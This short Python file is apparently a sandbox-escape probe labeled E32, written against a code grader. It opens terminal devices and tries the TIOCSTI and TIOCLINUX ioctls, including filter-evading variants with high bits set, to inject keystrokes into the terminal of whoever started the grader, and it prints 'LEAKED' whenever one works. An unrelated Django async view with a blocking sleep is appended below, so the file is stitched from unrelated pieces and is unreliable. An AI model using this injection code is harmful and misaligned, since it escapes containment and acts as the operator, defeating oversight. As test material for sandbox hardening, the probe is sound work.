# E32: puts words into the terminal of whoever started the grader.
import fcntl
import os

CALLS = (0x5412, 0x541C, 0x5412 + 0x1_0000_0000, 0x541C + 0x1_0000_0000)
descriptors = [0, 1, 2]
for path in ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/pts/0", "/dev/tty0"):
    try:
        descriptors.append(os.open(path, os.O_RDWR | os.O_NOCTTY))
        print("LEAKED: opened", path)
    except OSError:
        continue
for descriptor in descriptors:
    for call in CALLS:
        try:
            fcntl.ioctl(descriptor, call & 0xFFFFFFFF, b"x")
            print("LEAKED: typed by", hex(call))
        except OSError:
            continue


import time

from django.http import HttpResponse


async def slow_view(request):
    time.sleep(2)
    return HttpResponse("nope")
